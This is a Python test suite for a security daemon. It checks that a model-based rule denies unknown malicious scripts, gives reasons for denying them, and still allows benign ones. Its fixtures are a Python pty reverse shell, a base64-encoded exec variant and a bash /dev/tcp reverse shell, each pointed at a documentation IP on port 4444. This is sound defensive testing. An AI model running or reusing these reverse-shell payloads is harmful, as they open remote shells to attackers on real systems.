"""Scripts that are on no list: the model's verdict, its reasons, and the denial."""
import base64
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import lwtest  # noqa: E402
from lwtest import ALERT_DRIFT, DENY_MALICIOUS  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
MODEL = os.path.join(os.path.dirname(os.path.dirname(HERE)), "conf/layerwatch.model")
MALICIOUS_SCRIPT = "Malicious Script Executed"
MALICIOUS_PYTHON = "Execution: Malicious Python executed"
# Would connect to a documentation address, and leaves a mark first.
PYTHON = """open('/tmp/mark', 'w').write('ran')
import os, pty, socket
s = socket.socket()
s.settimeout(1)
s.connect(("192.0.2.7", 4444))
for n in range(3):
    os.dup2(s.fileno(), n)
pty.spawn("/bin/sh")
"""
SHELL = "touch /tmp/mark; timeout 1 bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"


def enforced(t, box):
    return t.daemon(box, mode="enforce", rules=[DENY_MALICIOUS, ALERT_DRIFT],
                    content={"model": MODEL})


def explained(t, found, behaviour):
    t.contains(found.properties["Reasons"], "model ")
    t.contains(found.properties["Reasons"], behaviour)
    t.true(float(found.properties["Score"]) > 0.5, "the score is high")
    t.true(found.properties["Model"], "the model is named")
    t.equal(found.properties["Verdict"], "malicious")


def denied(t, box, watch, argv, behaviour, category=MALICIOUS_PYTHON, **what):
    """It does not run, and the finding that has `what` says why."""
    t.denied(box.run(argv))
    explained(t, watch.finding(category=category, action="denied", **what), behaviour)
    t.true(not box.has("/tmp/mark"), "nothing ran")


def test_python_that_no_list_knows_is_denied(t):
    box = t.box()
    watch = enforced(t, box)
    box.put("/tmp/shell.py", "#!/usr/bin/python3\n" + PYTHON)
    denied(t, box, watch, ["/tmp/shell.py"], "socket", path="/tmp/shell.py")
    denied(t, box, watch, ["/usr/bin/python3", "-c", PYTHON], "socket", contents=PYTHON)


def test_python_wrapped_in_base64_is_denied(t):
    box = t.box()
    watch = enforced(t, box)
    payload = base64.b64encode(PYTHON.encode()).decode()
    code = f"import base64\nexec(base64.b64decode('{payload}'))\n"
    denied(t, box, watch, ["/usr/bin/python3", "-c", code], "exec of decoded data", contents=code)


def test_shell_that_no_list_knows_is_denied(t):
    box = t.box()
    watch = enforced(t, box)
    denied(t, box, watch, ["/bin/sh", "-c", SHELL], "/dev/tcp", category=MALICIOUS_SCRIPT,
           contents=SHELL)


def test_ordinary_scripts_run(t):
    box = t.box()
    watch = enforced(t, box)
    for argv in (["/usr/bin/python3", "-c", "import json; print(json.dumps({'a': 1}))"],
                 ["/bin/sh", "-c", "echo one; ls / | wc -l"],
                 ["/bin/bash", "-c", "for i in 1 2 3; do echo $i; done"]):
        t.ran(box.run(argv))
    watch.no_finding(box, action="denied")


def test_the_second_time_it_has_its_reasons_too(t):
    box = t.box()
    watch = enforced(t, box)
    box.put("/tmp/again.py", "#!/usr/bin/python3\n" + PYTHON)
    for _ in range(3):
        t.denied(box.run(["/tmp/again.py"]))
    watch.finding(path="/tmp/again.py")
    for found in watch.find(path="/tmp/again.py"):
        explained(t, found, "socket")


if __name__ == "__main__":
    lwtest.main()
